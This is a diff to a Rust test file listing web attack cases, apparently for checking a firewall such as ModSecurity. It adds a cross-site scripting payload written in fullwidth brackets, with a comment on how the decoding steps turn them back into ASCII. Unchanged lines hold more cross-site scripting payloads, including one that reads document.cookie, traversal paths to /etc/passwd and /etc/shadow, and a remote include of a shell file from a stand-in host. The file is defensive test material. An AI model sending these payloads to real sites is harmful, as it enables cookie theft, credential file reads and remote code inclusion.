@@ -33,6 +33,9 @@ pub const ATTACKS: &[Case] = &[
     get("xss: script tag", "/comment?text=%3Cscript%3Ealert(document.cookie)%3C/script%3E"),
     get("xss: event handler", "/profile?name=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"),
     post("xss: in JSON", "/api/comments", JSON, r#"{"body":"<svg onload=alert(1)>"}"#),
+    // Fullwidth brackets (U+FF1C, U+FF1E): ASCII only after t:utf8toUnicode and the
+    // best-fit map of t:urlDecodeUni, as ModSecurity reads them.
+    get("xss: fullwidth brackets", "/comment?text=%EF%BC%9Cscript%EF%BC%9Ealert(1)%EF%BC%9C/script%EF%BC%9E"),
     get("lfi: traversal", "/download?file=../../../../etc/passwd"),
     get("lfi: encoded traversal", "/download?file=..%2f..%2f..%2fetc%2fshadow"),
     get("rfi: remote include", "/page?include=http://198.51.100.7/shell.txt?"),
